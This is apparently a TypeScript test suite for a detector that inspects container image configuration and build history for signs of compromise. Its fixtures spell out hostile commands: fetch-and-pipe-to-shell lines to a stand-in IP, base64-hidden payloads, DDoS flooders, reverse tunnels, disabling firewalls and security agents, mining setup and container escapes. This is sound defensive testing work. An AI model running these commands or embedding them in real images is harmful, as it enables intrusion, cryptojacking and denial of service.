import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { emptyConfig } from '../../../test/fixtures/image-config.ts';
import { processorTime } from '../../../test/fixtures/processor-time.ts';
import type { ImageConfig } from '../../image/image.ts';
import type { ImageFinding } from '../detector.ts';
import { configurationInspection } from './image.ts';

function inspect(config: Partial<ImageConfig>, history: readonly string[] = []): readonly ImageFinding[] {
  const full: ImageConfig = {
    ...emptyConfig,
    user: 'app',
    history: history.map((createdBy, layer) => ({ createdBy, comment: '', created: '', layer })),
    ...config,
  };
  return [...configurationInspection({ reference: 'x', config: full }).findings];
}

const rules = (findings: readonly ImageFinding[]) =>
  findings.map((one) => `${one.rule.split('/')[1]} ${one.severity}`);

describe('what configuration and history give away', () => {
  it('takes a download that a container runs for a strong finding, and an official installer in a build for none', () => {
    const [start] = inspect({ entrypoint: ['/bin/sh', '-c', 'wget -qO- http://198.51.100.7/x | sh'] });
    assert.equal(start?.rule, 'configuration/download-and-run');
    assert.ok((start?.confidence ?? 0) >= 0.6 && start?.runs === true);
    assert.deepEqual([start?.place, start?.key], ['config', 'Entrypoint']);

    const [build] = inspect({}, ['RUN /bin/sh -c curl -fsSL https://get.docker.com | sh # buildkit']);
    assert.equal(build?.severity, 'info');
    assert.equal(build?.runs, false);
    assert.deepEqual([build?.place, build?.key, build?.layer], ['history', 'history[0]', 0]);
  });

  it('weighs a build line by where it downloads from', () => {
    const severity = (url: string) => inspect({}, [`/bin/sh -c curl -s ${url} | bash`])[0]?.severity;
    assert.equal(severity('https://tools.example.com/i.sh'), 'low');
    assert.equal(severity('http://tools.example.com/i.sh'), 'medium');
    assert.equal(severity('http://198.51.100.7/i.sh'), 'high');
    assert.equal(severity('https://pastebin.com/raw/a'), 'high');
    assert.equal(severity('-k https://tools.example.com/i.sh'), 'medium');
  });

  it('reads every form of RUN line, and no other instruction', () => {
    for (const line of [
      '/bin/sh -c curl -s http://198.51.100.7/x | sh',
      '|2 A=b C=d /bin/sh -c curl -s http://198.51.100.7/x | sh',
      'RUN /bin/sh -c curl -s http://198.51.100.7/x | sh # buildkit',
      'RUN |1 A=b /bin/sh -c curl -s http://198.51.100.7/x | sh # buildkit',
      '/bin/bash -o pipefail -c curl -s http://198.51.100.7/x | sh',
      'RUN curl -s http://198.51.100.7/x | sh',
    ]) {
      assert.deepEqual(rules(inspect({}, [line])), ['download-and-run high'], line);
    }
    assert.deepEqual(
      inspect({}, ['/bin/sh -c #(nop)  CMD ["sh" "-c" "curl http://198.51.100.7/x | sh"]']),
      [],
    );
  });

  it('shows what a payload decodes to, and its URLs as observables', () => {
    const encoded = Buffer.from('wget -qO- http://9.9.9.9/m.sh | sh').toString('base64');
    const config = { cmd: ['sh', '-c', `echo ${encoded}|base64 -d|sh`] };
    const [finding] = inspect(config);
    assert.equal(finding?.rule, 'configuration/decoded-payload');
    assert.match(finding?.excerpt ?? '', /9\.9\.9\.9\/m\.sh/);
  });

  it('weighs a payload by what it decodes to, and by who decides what it is', () => {
    const start = (text: string) => rules(inspect({ cmd: ['sh', '-c', text] }));
    const hidden = (text: string) => `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`;
    assert.deepEqual(start(hidden('curl http://198.51.100.7/x | sh')), ['decoded-payload high']);
    assert.deepEqual(start(hidden('exec nginx -g "daemon off;"')), ['decoded-payload low']);
    assert.deepEqual(start('echo "$STARTUP" | base64 -d | bash'), ['decoded-payload medium']);
    assert.deepEqual(start('curl -s "$URL" | bash'), ['download-and-run medium']);
    assert.deepEqual(start('curl -fsSL https://get.docker.com | sh'), ['download-and-run medium']);
    assert.deepEqual(start('curl -fsSL https://dl.example.com/x | sh'), ['download-and-run high']);
  });

  it('knows the variables of the image', () => {
    const cmd = ['sh', '-c', 'curl -s "$URL" | bash'];
    assert.deepEqual(rules(inspect({ env: ['URL=http://198.51.100.7/x'], cmd })), ['download-and-run high']);
    const prompt = ['PROMPT_COMMAND=curl -s http://198.51.100.7/x | sh'];
    assert.deepEqual(rules(inspect({ env: prompt, cmd: ['bash'] })), ['download-and-run high']);
    assert.deepEqual(inspect({ env: ['PROMPT_COMMAND=history -a'], cmd: ['bash'] }), []);
  });

  it('says nothing of software that a build installs, unless it comes from nobody', () => {
    const build = (text: string) => rules(inspect({}, [`RUN /bin/sh -c ${text} # buildkit`]));
    for (const text of [
      'curl -sSL https://x.example.com/a.tgz -o a.tgz && tar xzf a.tgz && cd a && ./configure && make install',
      'curl -fsSL https://github.com/a/b/releases/download/v2/p.tar.gz | tar xz -C /opt && /opt/p/p --version',
      'curl -LO https://x.example.com/tool && mv tool /usr/local/bin/ && tool --version',
      'curl -o /etc/systemd/system/x.service https://x.example.com/x.service',
      'wget http://ftp.us.debian.org/debian/pool/main/x/x.deb && dpkg -i x.deb',
    ]) {
      assert.deepEqual(build(text), [], text);
    }
    assert.deepEqual(build('wget http://x.example.com/a.tgz && tar xzf a.tgz && a/install'), [
      'download-and-run low',
    ]);
    assert.deepEqual(build('curl http://198.51.100.7/a.tgz | tar xz -C /opt && /opt/a/install'), [
      'download-and-run high',
    ]);
  });

  it('ends in time on nested substitutions', () => {
    const used = processorTime();
    inspect({ cmd: ['sh', '-c', '$('.repeat(120_000)] });
    assert.ok(used() < 2000);
  });

  it('finds command text that only entrypoint and command together make', () => {
    assert.deepEqual(rules(inspect({ entrypoint: ['sh', '-c'], cmd: ['curl 198.51.100.7/x | sh'] })), [
      'download-and-run high',
    ]);
  });

  it('finds flooders and scanners that a container starts, not load tests of local services', () => {
    for (const cmd of [
      ['./db1000n', '-c', 'x'],
      ['python3', 'start.py', 'UDP', '198.51.100.7:53', '100', '3600'],
      ['bombardier', '-c', '1000', '-d', '3600s', 'https://www.example.org'],
      ['hping3', '--flood', '-S', '198.51.100.7'],
    ]) {
      assert.deepEqual(rules(inspect({ cmd })), ['flooder high'], cmd.join(' '));
    }
    const split = { entrypoint: ['python3', 'start.py'], cmd: ['UDP', '198.51.100.7:53', '100', '3600'] };
    assert.deepEqual(rules(inspect(split)), ['flooder high']);
    assert.deepEqual(rules(inspect({ entrypoint: ['tini', '--'], cmd: ['./db1000n'] })), ['flooder high']);
    assert.deepEqual(rules(inspect({ cmd: ['masscan', '0.0.0.0/0', '-p2375'] })), ['scanner high']);
    assert.deepEqual(inspect({ cmd: ['bombardier', '-c', '10', 'http://localhost:8080'] }), []);
    const measured = ['bombardier', '-c', '50', '-d', '30s', 'https://www.example.org'];
    assert.deepEqual(rules(inspect({ cmd: measured })), ['flooder medium']);
    const disbalancer = ['/app/launcher-disbalancer-go-client-linux-amd64'];
    assert.deepEqual(rules(inspect({ cmd: disbalancer })), ['flooder high']);
    assert.deepEqual(inspect({ cmd: ['hping3', '--flood', '127.0.0.1'] }), []);
    assert.deepEqual(inspect({ cmd: ['slowhttptest', '-c', '1000', '-u', 'http://web:8080/'] }), []);
    assert.deepEqual(rules(inspect({ cmd: ['slowloris', 'www.example.org', '-s', '500'] })), [
      'flooder high',
    ]);
    assert.deepEqual(inspect({ cmd: ['masscan', '--version'] }), []);
    assert.deepEqual(rules(inspect({ cmd: ['masscan', '10.0.0.0/8', '-p80'] })), ['scanner low']);
    assert.deepEqual(rules(inspect({ cmd: ['ngrok', 'tcp', '22'] })), ['tunnel medium']);
    assert.deepEqual(rules(inspect({ cmd: ['ssh', '-fN', '-R', '22:localhost:22', 'u@h.example.net'] })), [
      'tunnel medium',
    ]);
    assert.deepEqual(rules(inspect({ cmd: ['p2pclient', '--login', 'a@example.org'] })), [
      'proxyware medium',
    ]);
    assert.deepEqual(inspect({ cmd: ['ssh', '-L', '5432:db:5432', 'u@h.example.net'] }), []);
    assert.deepEqual(inspect({ cmd: ['ssh', '-oRequestTTY=no', 'u@h.example.net'] }), []);
    assert.deepEqual(inspect({ cmd: ['ssh', '-R', '80:localhost:80', 'u@10.0.0.5'] }), []);
    assert.deepEqual(inspect({ cmd: ['python3', 'start.py', '--port', '80'] }), []);
  });

  it('finds tunnels by how they are started', () => {
    for (const command of [
      'frpc -c /etc/frpc.ini',
      'frpc tcp -s 198.51.100.7:7000 -l 22 -r 6000',
      'chisel client http://198.51.100.7:8080 R:socks',
      'tmate -F -k tmk-x',
      'bore local 22 --to bore.example.org',
      'gost -L socks5://:1080',
      'lt --port 80',
      'npx localtunnel --port 80',
      'cloudflared tunnel --no-autoupdate run --token x',
      'ssh -R 80:localhost:3000 serveo.example.net',
    ]) {
      assert.deepEqual(rules(inspect({ cmd: command.split(' ') })), ['tunnel medium'], command);
    }
    for (const command of [
      'chisel server',
      'cloudflared version',
      'frps -c x',
      'tmate -V',
      'lt',
      'gost -V',
    ]) {
      assert.deepEqual(inspect({ cmd: command.split(' ') }), [], command);
    }
  });

  it('finds programs that sell bandwidth by their options and accounts, under any name', () => {
    for (const config of [
      { entrypoint: ['./Cli'], cmd: ['start', 'accept', '--token', 'x='] },
      { cmd: ['/nh.sh', '--token=0123', '--mode=exchange'] },
      { cmd: ['/app/x', '-tou-accept', '-email', 'a@b.c', '-pass', 'x', '-device', 'y'] },
      { cmd: ['/app/x', '-email=a@b.c', '-password=x', '-device-name=y', '-accept-tos'] },
      { cmd: ['/app/bitpingd'] },
      { cmd: ['/start.sh'], env: [`EARNAPP_UUID=sdk-node-${'0a'.repeat(16)}`] },
      { cmd: ['/start.sh'], env: ['BITPING_EMAIL=a@example.org'] },
    ]) {
      assert.deepEqual(rules(inspect(config)), ['proxyware medium'], JSON.stringify(config));
    }
    for (const config of [
      { cmd: ['./Cli', 'start', '--token', 'x'] },
      { cmd: ['/app/x', '--mode=exchange'] },
      { cmd: ['/app/mail', '-email', 'a@b.c', '-password', 'x'] },
      { cmd: ['/start.sh'], env: ['BITPING_EMAIL=', 'EARNAPP_UUID=changeme', 'EMAIL=a@example.org'] },
    ]) {
      assert.deepEqual(inspect(config), [], JSON.stringify(config));
    }
  });

  it("finds containers started through another host's Docker", () => {
    const docker = (host: string) => rules(inspect({ cmd: ['docker', '-H', host, 'run', '-d', 'x/y'] }));
    assert.deepEqual(docker('tcp://198.51.100.7:2375'), ['remote-docker high']);
    assert.deepEqual(docker('tcp://docker:2375'), []);
    assert.deepEqual(docker('tcp://10.0.0.5:2375'), []);
    assert.deepEqual(docker('unix:///var/run/docker.sock'), []);
  });

  it('takes killed miners for rivals only beside other signs of an intruder', () => {
    const rivals = (text: string) =>
      rules(inspect({ cmd: ['sh', '-c', text] })).filter((rule) => rule.startsWith('rivals'));
    assert.deepEqual(rivals('pkill xmrig || true; exec nginx'), ['rivals-killed medium']);
    assert.deepEqual(rivals('pkill xmrig; curl http://198.51.100.7/x | sh'), ['rivals-killed high']);
  });

  it('finds the preparations of intruders', () => {
    const cases: readonly (readonly [string, string])[] = [
      ['setenforce 0', 'protection-off medium'],
      ['iptables -F', 'protection-off medium'],
      ['pkill -9 AliYunDun', 'agent-removed high'],
      ['rm -rf /usr/local/qcloud/YunJing/YDService', 'agent-removed high'],
      ['sysctl -w vm.nr_hugepages=1280', 'mining-preparation medium'],
      ['echo 128 > /proc/sys/vm/nr_hugepages', 'mining-preparation medium'],
      ['modprobe msr allow_writes=on', 'mining-preparation medium'],
      ['pkill -f kdevtmpfsi', 'rivals-killed medium'],
      ['chattr -ia /etc/crontab', 'immutable-file medium'],
      ['unset HISTFILE', 'traces-hidden medium'],
      ['nsenter --target 1 --mount sh', 'escape medium'],
      ['docker run --privileged alpine sh', 'escape high'],
      ['pip install --trusted-host 198.51.100.7 x', 'insecure-install medium'],
    ];
    for (const [command, expected] of cases) {
      assert.deepEqual(
        rules(inspect({ cmd: ['/bin/sh', '-c', `sudo ${command}; run`] })),
        [expected],
        command,
      );
    }
  });

  it('stays quiet on official images', () => {
    const findings = inspect(
      {
        user: '',
        entrypoint: ['/docker-entrypoint.sh'],
        cmd: ['nginx', '-g', 'daemon off;'],
        healthcheck: ['CMD-SHELL', 'curl -f http://localhost/ || exit 1'],
        env: ['PATH=/usr/bin', 'NGINX_VERSION=1.29'],
      },
      [
        '/bin/sh -c #(nop) ADD file:1 in / ',
        '/bin/sh -c set -x && apt-get update && apt-get install --no-install-recommends -y gnupg1 && for server in hkp://keyserver.ubuntu.com:80; do gpg1 --keyserver "$server" --recv-keys X && break; done && rm -rf /var/lib/apt/lists/*',
        'RUN /bin/sh -c curl -fsSLO --compressed "https://nodejs.org/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz" && tar -xJf "node-v22.0.0-linux-x64.tar.xz" -C /usr/local --strip-components=1 # buildkit',
        'RUN /bin/sh -c wget -O /usr/local/bin/gosu "https://github.com/tianon/gosu/releases/download/1.17/gosu-amd64"; chmod +x /usr/local/bin/gosu; gosu --version; gosu nobody true # buildkit',
        'RUN /bin/sh -c ln -sf /dev/stdout /var/log/nginx/access.log # buildkit',
      ],
    );
    assert.deepEqual(rules(findings), ['runs-as-root info']);
  });

  it('quotes no credentials', () => {
    const [finding] = inspect({
      cmd: ['sh', '-c', 'curl -H "Authorization: Bearer abcdefghijk" https://u:pw1234@x.example.com/i | sh'],
    });
    assert.doesNotMatch(finding?.excerpt ?? '', /abcdefghijk|pw1234/);
    assert.match(finding?.excerpt ?? '', /x\.example\.com/);
  });

  it('finds a library that the environment preloads from a place where none belongs', () => {
    assert.deepEqual(rules(inspect({ env: ['LD_PRELOAD=/tmp/.x/lib.so'] })), ['preload high']);
    assert.deepEqual(inspect({ env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'] }), []);
  });

  it('says so when certificates are not verified, and where files are added from', () => {
    assert.deepEqual(rules(inspect({ env: ['NODE_TLS_REJECT_UNAUTHORIZED=0'] })), [
      'insecure-setting medium',
    ]);
    assert.deepEqual(rules(inspect({}, ['ADD https://x.example.com/a.tgz /opt/ # buildkit'])), [
      'remote-add info',
    ]);
  });
});
